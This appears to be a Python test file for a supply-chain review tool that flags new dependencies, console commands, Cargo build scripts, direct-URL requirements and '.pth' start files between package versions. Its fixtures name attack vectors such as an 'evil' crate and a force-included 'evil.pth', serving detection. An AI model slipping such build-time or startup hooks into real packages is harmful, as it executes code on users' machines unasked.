def test_what_is_not_known_is_not_new(old: dict[str, bytes]) -> None:
    new = old | {"PKG-INFO": pkg_info("1.0", "Requires-Dist: a")}
    assert lines(old, new, "new-dependency") == [
        "note new-dependency what the old side requires is not known, the "
        "new one requires a"
    ]


def test_a_command_that_may_have_been_there_is_a_note() -> None:
    old = {
        "setup.py": b"from setuptools import setup\n"
        b"setup(name='p', entry_points=points())\n"
    }
    path = "p.egg-info/entry_points.txt"
    new = old | {path: points("console_scripts", "run = p:main")}
    assert lines(old, new, "new-command") == ["note new-command run = p:main"]


def test_what_cargo_newly_takes() -> None:
    head = b'[package]\nname = "x"\n'
    new = head + b'build = "b.rs"\n[dependencies]\nevil = "1"\n'
    assert lines({"Cargo.toml": head}, {"Cargo.toml": new}) == [
        "review runs-at-build Cargo.toml: build = b.rs",
        "review runs-at-build Cargo.toml: newly takes the crate evil",
    ]
    assert lines({"Cargo.toml": new}, {"a/Cargo.toml": new + b"\n"}) == []
    assert lines({}, {"Cargo.toml": new}) == []


def test_an_address_in_requirements() -> None:
    new = {"requirements.txt": b"a\n-e git+https://a.example/x#egg=x\n"}
    assert lines({}, new) == [
        "alert direct-url requirements.txt: git+https://a.example/x#egg=x"
    ]
    assert (
        lines(new, {"requirements.txt": new["requirements.txt"] + b"b"}) == []
    )


def test_a_build_file_that_names_a_start_file() -> None:
    head = b"[tool.hatch.build.targets.wheel.force-include]\n"
    new = head + b'"notes.txt" = "evil.pth"\n'
    old = {"pyproject.toml": head}
    assert lines(old, {"pyproject.toml": new}, "runs-at-start") == [
        "review runs-at-start pyproject.toml:2 names evil.pth"
    ]
    assert lines({"docs/a.cfg": head}, {"docs/a.cfg": new}) == []
